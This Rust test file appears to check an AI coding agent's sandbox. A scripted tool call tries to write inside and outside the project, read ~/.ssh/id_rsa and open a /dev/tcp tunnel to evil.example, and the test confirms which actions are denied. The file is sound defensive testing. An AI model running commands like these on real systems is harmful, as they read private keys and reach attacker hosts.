//! An agent in a sandbox talks to its service under the service's own name, and reaches no more.

use std::sync::Arc;

use amp_session::{Amp, Error, Outcome, SandboxConfig, SessionConfig, default_deadlines};
use anyhow::{Context, Result};
use fixtures::backend::{Backend, Entry, Options};
use fixtures::script::{Answer, Block, Script};

use super::Case;
use super::place::{LIMIT, Place};
use super::tls::Terminator;
use crate::installed_cli::InstalledCli;
use crate::versions::Packaging;

/// What a tool tries: the project, a key, a file outside, a service.
const COMMAND: &str = "echo ran > inside; cat ~/.ssh/id_rsa; echo ran > ../trace; \
                       exec 3<>/dev/tcp/127.0.0.1/3128; \
                       printf 'CONNECT evil.example:443 HTTP/1.1\\r\\n\\r\\n' >&3; head -n 1 <&3";

pub(super) fn cases() -> Vec<Case> {
    vec![
        Case {
            name: "sandbox: a tool call, the service under its name",
            expected: Box::new(|packaging| {
                // The loop of the JavaScript build is its own; it has no use for a WebSocket.
                let by = match packaging {
                    Packaging::Javascript => "without a WebSocket",
                    Packaging::Native => "by WebSocket",
                };
                format!(
                    "completed; {by}; inside written, outside not; told: \
                     connect evil.example:443, read ~/.ssh/id_rsa"
                )
            }),
            attempt: Box::new(|cli| Box::pin(under_its_name(cli))),
        },
        Case {
            name: "sandbox: another service",
            expected: Box::new(|_| {
                "the sandbox does not allow the service https://other.example/".to_owned()
            }),
            attempt: Box::new(|cli| Box::pin(another_service(cli))),
        },
    ]
}

async fn under_its_name(cli: InstalledCli) -> Result<String> {
    let place = Place::create(&cli).await?;
    place.write("home/.ssh/id_rsa", "a secret")?;
    let answer = |blocks| Answer {
        blocks,
        ..Answer::default()
    };
    let script = Script {
        answers: vec![
            answer(vec![Block::Shell(COMMAND.to_owned())]),
            answer(vec![Block::Text("It is done.".to_owned())]),
        ],
        ..Script::default()
    };
    let options = Options::for_workspace(place.path("project")).with_script("try", script);
    let backend = Arc::new(Backend::start(options).await?);
    let service = backend.url();
    let service = service.trim_start_matches("http://").trim_end_matches('/');
    let terminator = Terminator::start("ampcode.com", service.parse()?).await?;
    place.write("ca.pem", terminator.authority())?;

    let mut sandbox = SandboxConfig::new();
    let rule = format!("ampcode.com={}", terminator.address());
    sandbox.hosts = vec![rule.parse()?];
    let mut environment = place.environment();
    environment.insert("AMP_URL".into(), "https://ampcode.com/".into());
    environment.insert("NODE_EXTRA_CA_CERTS".into(), place.path("ca.pem").into());
    let outcome = run(&place, &cli, environment, sandbox, "SCN:try").await??;

    if !outcome.is_success() {
        // What went wrong tells more than what did not come of it.
        return Ok(format!(
            "{}: {} {:?}",
            outcome.status, outcome.stderr, outcome.sandbox
        ));
    }
    let by = match spoke_by_web_socket(&backend) {
        true => "by WebSocket",
        false => "without a WebSocket",
    };
    let written = |path: &str| match place.path(path).exists() {
        true => "written",
        false => "not",
    };
    let report = outcome.sandbox.context("a run in a sandbox has a report")?;
    let home = place.path("home").canonicalize()?.display().to_string();
    let told: Vec<String> = report
        .denied
        .iter()
        .map(|denial| {
            let target = denial.target.replace(&home, "~");
            format!("{} {target}", denial.kind.as_str())
        })
        .collect();
    Ok(format!(
        "{}; {by}; inside {}, outside {}; told: {}",
        outcome.status,
        written("project/inside"),
        written("trace"),
        told.join(", ")
    ))
}

async fn another_service(cli: InstalledCli) -> Result<String> {
    let place = Place::create(&cli).await?;
    let mut environment = place.environment();
    environment.insert("AMP_URL".into(), "https://other.example/".into());
    let outcome = run(&place, &cli, environment, SandboxConfig::new(), "hello").await?;
    Ok(match outcome {
        Ok(outcome) => outcome.status.to_string(),
        Err(error) => error.to_string(),
    })
}

async fn run(
    place: &Place,
    cli: &InstalledCli,
    environment: amp_session::Environment,
    sandbox: SandboxConfig,
    prompt: &str,
) -> Result<Result<Outcome, Error>> {
    let mut config = SessionConfig::new()
        .with_working_directory(place.path("project"))
        .with_deadlines(default_deadlines().with_total(Some(LIMIT)))
        .with_sandbox(sandbox);
    config.dangerously_allow_all = true;
    let amp = Amp::new(&cli.executable, cli.version.as_str()).with_environment(environment);
    let begun = async { amp.start(config)?.prompt(prompt).await };
    Ok(match begun.await {
        Ok(turn) => Ok(turn.finish().await),
        Err(error) => Err(error),
    })
}

fn spoke_by_web_socket(backend: &Backend) -> bool {
    backend.journal().iter().any(|entry| match entry {
        Entry::Request { path, .. } => path.contains("websocket") || path.contains("/ws"),
        _ => false,
    })
}
